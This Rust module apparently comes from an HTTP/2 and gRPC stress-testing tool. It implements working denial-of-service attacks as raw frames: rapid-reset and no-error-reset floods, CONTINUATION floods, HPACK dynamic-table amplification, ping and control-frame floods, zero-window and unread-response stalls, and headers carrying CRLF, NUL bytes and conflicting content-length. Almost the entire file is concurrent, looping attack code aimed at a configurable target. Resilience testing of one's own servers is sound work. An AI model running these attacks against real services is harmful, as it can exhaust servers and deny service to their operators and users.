//! The attacks in bytes: each connection repeats its kind's behaviour until the end, on a new connection where the peer ended one.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use prost::Message as _;
use tokio::time::{Instant, Interval, MissedTickBehavior};

use crate::Plan;
use crate::connection::{Connection, Figures};
use crate::kinds::Kind;
use crate::probe::Call;
use crate::wire;

/// Requests in one write of a flood.
const BATCH: u64 = 100;
/// The value that stands for much, and the largest that fits into a dynamic table of 4096 bytes.
const LARGE_VALUE: usize = 4_000;
/// A request's body, all that the first window allows.
const BODY: usize = 65_535;

/// Starts the attack in the background.
pub(crate) fn start(mut plan: Plan) -> Arc<Figures> {
    let figures = Arc::new(Figures::default());
    let (connections, streams, fields) = plan.kind.size();
    let or = |asked: usize, own: usize| if asked == 0 { own } else { asked };
    plan.connections = or(plan.connections, connections);
    plan.streams = or(plan.streams, streams);
    plan.fields = or(plan.fields, fields);
    for _ in 0..plan.connections {
        let attacker = Attacker {
            plan: plan.clone(),
            figures: Arc::clone(&figures),
        };
        tokio::spawn(attacker.run());
    }
    figures
}

struct Attacker {
    plan: Plan,
    figures: Arc<Figures>,
}

impl Attacker {
    async fn run(self) {
        loop {
            if let Err(error) = self.once().await {
                self.figures.note(format!("error: {}", error.kind()));
                // A path that refuses at once must not be asked ten thousand times a second.
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
    }

    /// One connection, until the peer ends it or the kind does.
    async fn once(&self) -> io::Result<()> {
        match self.plan.kind {
            Kind::HeaderReferences => {
                self.hold_calls(&[wire::STATIC_AGE].repeat(self.plan.fields))
                    .await
            }
            Kind::LargeHeaders => self.hold_calls(&distinct_fields(self.plan.fields)).await,
            Kind::Expanding => {
                let mut first = Vec::new();
                wire::indexed_literal(&mut first, "x", &vec![b'v'; LARGE_VALUE]);
                let again = [wire::NEWEST].repeat(self.plan.fields.saturating_sub(1));
                self.hold_calls_after(&first, &again).await
            }
            Kind::UnfinishedBlocks => self.unfinished_block().await,
            Kind::UnreadBody => self.unread_body().await,
            Kind::UnreadResponses => self.large_responses(wire::MAX_WINDOW, false).await,
            Kind::NoCredit => self.large_responses(0, true).await,
            Kind::RapidReset => self.rapid_reset().await,
            Kind::Cancels => self.cancels().await,
            Kind::Abandon => self.abandon().await,
            Kind::UnreadSettings => self.unread_settings().await,
            Kind::OversizedBlocks => self.oversized_blocks().await,
            Kind::Pings => self.pings().await,
            Kind::BadFields => self.bad_fields().await,
            Kind::Undetected => self.first_bytes(&wire::PREFACE[..10]).await,
            Kind::Opaque => self.first_bytes(&vec![b'x'; 1 << 20]).await,
            Kind::Connects => Connection::silent(self.plan.target, &self.figures, &[])
                .await
                .map(drop),
            Kind::ControlFrames => self.control_frames().await,
            Kind::NoErrorResets => self.no_error_resets().await,
        }
    }

    async fn open(&self) -> io::Result<Connection> {
        Connection::open(self.plan.target, &self.figures, &[]).await
    }

    /// Units of `batch` requests at the plan's rate; without a rate, whenever other connections have had their turn.
    fn pace(&self, batch: u64) -> Pace {
        let units = self.plan.rate as f64 / (batch.max(1) * self.plan.connections as u64) as f64;
        let mut interval =
            (self.plan.rate > 0).then(|| tokio::time::interval(Duration::from_secs_f64(1.0 / units)));
        if let Some(interval) = &mut interval {
            interval.set_missed_tick_behavior(MissedTickBehavior::Burst);
        }
        Pace(interval)
    }

    async fn hold_calls(&self, fields: &[u8]) -> io::Result<()> {
        self.hold_calls_after(&[], fields).await
    }

    /// Calls that stay open, each of whose requests has `fields`; the first has `first` before them.
    async fn hold_calls_after(&self, first: &[u8], fields: &[u8]) -> io::Result<()> {
        let mut connection = self.open().await?;
        let mut pace = self.pace(1);
        for number in 0..self.plan.streams {
            pace.next().await;
            let mut block = wire::request("ClientStream");
            // An entry of the dynamic table stays; only its making is said once.
            block.extend_from_slice(if number == 0 { first } else { &[] });
            block.extend_from_slice(fields);
            let mut out = Vec::new();
            wire::headers(&mut out, connection.stream(), &block, 0);
            connection.send(&out).await?;
            self.figures.count_requests(1);
        }
        connection.wait_for_end().await;
        Ok(())
    }

    async fn unfinished_block(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let stream = connection.stream();
        let mut out = Vec::new();
        wire::frame(
            &mut out,
            wire::HEADERS,
            wire::END_STREAM,
            stream,
            &wire::request("Unary"),
        );
        connection.send(&out).await?;
        self.figures.count_requests(1);
        for piece in distinct_fields(self.plan.fields).chunks(wire::MAX_FRAME) {
            let mut out = Vec::new();
            wire::frame(&mut out, wire::CONTINUATION, 0, stream, piece);
            connection.send(&out).await?;
        }
        connection.wait_for_end().await;
        Ok(())
    }

    async fn unread_body(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        for _ in 0..self.plan.streams {
            let mut out = Vec::new();
            let stream = connection.stream();
            wire::headers(&mut out, stream, &wire::request("ClientStream"), 0);
            wire::message(&mut out, stream, &vec![7; BODY - 5], 0);
            connection.send(&out).await?;
            self.figures.count_requests(1);
        }
        connection.wait_for_end().await;
        Ok(())
    }

    /// Calls that are answered with 64 MB each, under an initial stream window.
    async fn large_responses(&self, window: u32, reads: bool) -> io::Result<()> {
        let settings = [(wire::INITIAL_WINDOW_SIZE, window)];
        let mut connection = Connection::silent(self.plan.target, &self.figures, &settings).await?;
        if reads {
            connection.start_reading();
        }
        let call = Call {
            id: "large-response".into(),
            payload: vec![7; 32 << 10],
            replies: 2_000,
            ..Call::default()
        };
        let mut out = Vec::new();
        wire::window_update(&mut out, 0, wire::MAX_WINDOW - BODY as u32);
        connection.send(&out).await?;
        for _ in 0..self.plan.streams {
            let mut out = Vec::new();
            let stream = connection.stream();
            wire::headers(&mut out, stream, &wire::request("ServerStream"), 0);
            wire::message(&mut out, stream, &call.encode_to_vec(), wire::END_STREAM);
            connection.send(&out).await?;
            self.figures.count_requests(1);
        }
        connection.wait_for_end().await;
        Ok(())
    }

    async fn rapid_reset(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let (mut pace, block) = (self.pace(BATCH), wire::request("Unary"));
        loop {
            pace.next().await;
            let mut out = Vec::new();
            for _ in 0..BATCH {
                let stream = connection.stream();
                wire::headers(&mut out, stream, &block, 0);
                wire::rst_stream(&mut out, stream, wire::CANCEL);
            }
            connection.send(&out).await?;
            self.figures.count_requests(BATCH);
        }
    }

    async fn cancels(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let mut out = Vec::new();
        long_call(&mut out, connection.stream(), "watch");
        connection.send(&out).await?;
        let (mut pace, mut last) = (self.pace(1), None);
        loop {
            pace.next().await;
            let mut out = Vec::new();
            let stream = connection.stream();
            long_call(&mut out, stream, "cancelled");
            if let Some(last) = last.replace(stream) {
                wire::rst_stream(&mut out, last, wire::CANCEL);
            }
            connection.send(&out).await?;
            self.figures.count_requests(1);
        }
    }

    async fn abandon(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let mut out = Vec::new();
        for _ in 0..self.plan.streams {
            long_call(&mut out, connection.stream(), "abandoned");
        }
        connection.send(&out).await?;
        self.figures.count_requests(self.plan.streams as u64);
        Ok(())
    }

    async fn unread_settings(&self) -> io::Result<()> {
        let mut connection = Connection::silent(self.plan.target, &self.figures, &[]).await?;
        let block = wire::request("ClientStream");
        let mut out = Vec::new();
        for _ in 0..self.plan.streams {
            wire::headers(&mut out, connection.stream(), &block, 0);
        }
        connection.send(&out).await?;
        self.figures.count_requests(self.plan.streams as u64);
        connection.start_reading();
        let end = Instant::now() + Duration::from_secs(1);
        let _ = tokio::time::timeout_at(end, connection.wait_for_end()).await;
        Ok(())
    }

    async fn oversized_blocks(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let mut pace = self.pace(1);
        let mut block = wire::request("Unary");
        wire::indexed_literal(&mut block, "x", &vec![b'v'; LARGE_VALUE]);
        loop {
            let mut out = Vec::new();
            block.extend_from_slice(&[wire::NEWEST].repeat(self.plan.fields));
            wire::headers(&mut out, connection.stream(), &block, wire::END_STREAM);
            pace.next().await;
            connection.send(&out).await?;
            self.figures.count_requests(1);
            block = wire::request("Unary");
        }
    }

    async fn pings(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let block = wire::request("ClientStream");
        for _ in 0..self.plan.streams {
            let mut out = Vec::new();
            wire::headers(&mut out, connection.stream(), &block, 0);
            connection.send(&out).await?;
            self.figures.count_requests(1);
        }
        let mut out = Vec::new();
        (0..BATCH).for_each(|_| wire::frame(&mut out, wire::PING, 0, 0, b"attacked"));
        let mut pace = self.pace(BATCH);
        loop {
            pace.next().await;
            connection.send(&out).await?;
        }
    }

    async fn bad_fields(&self) -> io::Result<()> {
        const FIELDS: [(&str, &[u8]); 10] = [
            ("authorization", b"Bearer "),
            ("x-tab", b"\tvalue\t"),
            ("x-space", b" "),
            ("X-Upper", b"value"),
            ("x-null", b"va\0lue"),
            ("x-line", b"va\r\nlue"),
            ("connection", b"close"),
            ("te", b"gzip"),
            ("content-length", b"1000000"),
            ("content-length", b" 5"),
        ];
        let mut connection = self.open().await?;
        let mut pace = self.pace(1);
        loop {
            for (name, value) in FIELDS {
                let mut block = wire::request("Unary");
                wire::literal(&mut block, name, value);
                let (mut out, stream) = (Vec::new(), connection.stream());
                wire::headers(&mut out, stream, &block, 0);
                wire::message(&mut out, stream, &[], wire::END_STREAM);
                pace.next().await;
                connection.send(&out).await?;
                self.figures.count_requests(1);
            }
        }
    }

    /// Bytes that do not make an HTTP/2 connection.
    async fn first_bytes(&self, bytes: &[u8]) -> io::Result<()> {
        let mut connection = Connection::connect(self.plan.target, &self.figures).await?;
        connection.start_reading();
        connection.send(bytes).await?;
        connection.wait_for_end().await;
        Ok(())
    }

    async fn control_frames(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let (mut out, stream) = (Vec::new(), connection.stream());
        wire::headers(&mut out, stream, &wire::request("ClientStream"), 0);
        connection.send(&out).await?;
        self.figures.count_requests(1);
        let mut pace = self.pace(BATCH);
        loop {
            let mut out = Vec::new();
            for number in 0..BATCH {
                match number % 5 {
                    0 => wire::settings(&mut out, &[(wire::INITIAL_WINDOW_SIZE, BODY as u32)]),
                    1 => wire::window_update(&mut out, 0, 1),
                    2 => wire::frame(&mut out, wire::PRIORITY, 0, stream, &[0, 0, 0, 0, 15]),
                    3 => wire::frame(&mut out, wire::DATA, 0, stream, &[]),
                    _ => wire::frame(&mut out, wire::UNKNOWN, 0, stream, b"unknown"),
                }
            }
            pace.next().await;
            connection.send(&out).await?;
        }
    }

    async fn no_error_resets(&self) -> io::Result<()> {
        let mut connection = self.open().await?;
        let mut pace = self.pace(1);
        loop {
            let (mut out, stream) = (Vec::new(), connection.stream());
            wire::headers(&mut out, stream, &wire::request("ClientStream"), 0);
            wire::message(&mut out, stream, &[7; 1_000], 0);
            wire::rst_stream(&mut out, stream, wire::NO_ERROR);
            pace.next().await;
            connection.send(&out).await?;
            self.figures.count_requests(1);
        }
    }
}

struct Pace(Option<Interval>);

impl Pace {
    async fn next(&mut self) {
        match &mut self.0 {
            Some(interval) => drop(interval.tick().await),
            None => tokio::task::yield_now().await,
        }
    }
}

/// So many fields of about a thousand bytes each, no two alike.
fn distinct_fields(count: usize) -> Vec<u8> {
    let mut block = Vec::new();
    for number in 0..count {
        let value = format!("{number:x}").repeat(1_000);
        wire::literal(
            &mut block,
            "x-large",
            value.get(..1_000).unwrap_or_default().as_bytes(),
        );
    }
    block
}

/// A call that a server answers after a minute.
fn long_call(out: &mut Vec<u8>, stream: u32, id: &str) {
    let call = Call {
        id: format!("{id}-{stream}"),
        delay_ms: 60_000,
        ..Call::default()
    };
    wire::headers(out, stream, &wire::request("Unary"), 0);
    wire::message(out, stream, &call.encode_to_vec(), wire::END_STREAM);
}
